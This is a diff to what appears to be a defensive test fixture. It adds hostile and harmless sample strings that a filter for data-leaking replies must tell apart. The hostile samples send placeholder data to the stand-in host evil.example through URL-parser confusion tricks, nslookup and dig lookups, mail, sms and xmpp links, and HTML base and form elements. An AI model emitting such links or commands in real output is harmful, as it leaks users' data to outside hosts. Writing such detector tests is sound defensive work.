@@ -57,12 +57,21 @@ HOSTILE: tuple[str, ...] = (
     "https://{host}/?u=https://evil.example/?n={0}",
     "https://{host}/go?n={0}&next=https%3A%2F%2Fevil.example%2F",
     "https://{0}.{host}/",
+    # A host of the request that other readers take for a login, or for a part of a longer one.
+    "http://{host}\\@evil.example/{0}",
+    "http://{host}?@evil.example/{0}",
+    "http://{host}#@evil.example/{0}",
+    "http://localhost\\.evil.example/{0}",
+    "[2001:db8::1]:80/{0} and [2001:db8::1]/{1}",
     # Names that are looked up, and mail.
     "nslookup {0}.evil.example",
     "dig {0}-{1}.x.evil.example",
     "ping {0}%2Eevil%2Eexample",
     "{0}@evil.example",
     "mailto:{0}@evil.example",
+    '"{0}"@evil.example',
+    "sms:+15550100?body={0}",
+    "xmpp:eve?message;body={0}&body={1}",
     "git clone git@evil.example:{0}/tool.git",
     "ssh://{0}@evil.example/",
     # HTML and CSS.
@@ -80,6 +89,12 @@ HOSTILE: tuple[str, ...] = (
     "body {{ background: url( 'https://evil.example/a {0}' ) }}",
     '@import "https://evil.example/{0}.css";',
     '<img alt="](" src="https://evil.example/a {0}">',
+    # A base, or a form, that sends elsewhere what stands in it.
+    '<base href="https://evil.example/"><img src="{0}">',
+    "<BASE\ntarget='>' href=//evil.example><a href='/{0}'>x</a>\n\n![]({1}.png)",
+    '<form action="//evil.example/"><input name=q value="{0}">',
+    "<form method=post action=https://evil.example/> <input type=hidden name=n value={0}></form>",
+    "<form><button formaction='//evil.example/'>x</button><textarea name=n>\n{0} {1}\n\n{0}</textarea>",
     # Programs and documents with an address in quotation marks.
     'fetch("https://evil.example/?n=a {0}")',
     "requests.get('https://evil.example/', {1!r}) # https://evil.example/{0}".replace("{1!r}", "None"),
@@ -103,6 +118,10 @@ HARMLESS: tuple[str, ...] = (
     "{0}=1&{1}=2",
     '{{"site": "https://evil.example/", "first": "{0}", "last": "{1}"}}',
     "{0} (https://evil.example/) {1}",
+    '<form action="/send"><input value="{0}"></form> https://evil.example/ <p>{1}</p>',
+    '<form action="//evil.example/"></form><p>{0}</p> {1}',
+    "\\\\{host}\\people\\{0}\\{1}",
+    "rows[1:2]/{0} and tel:{1}",
     "50% of {0}'s & {1}'s @ 3:15",
 )
 """Replies in which everything has to be restored."""
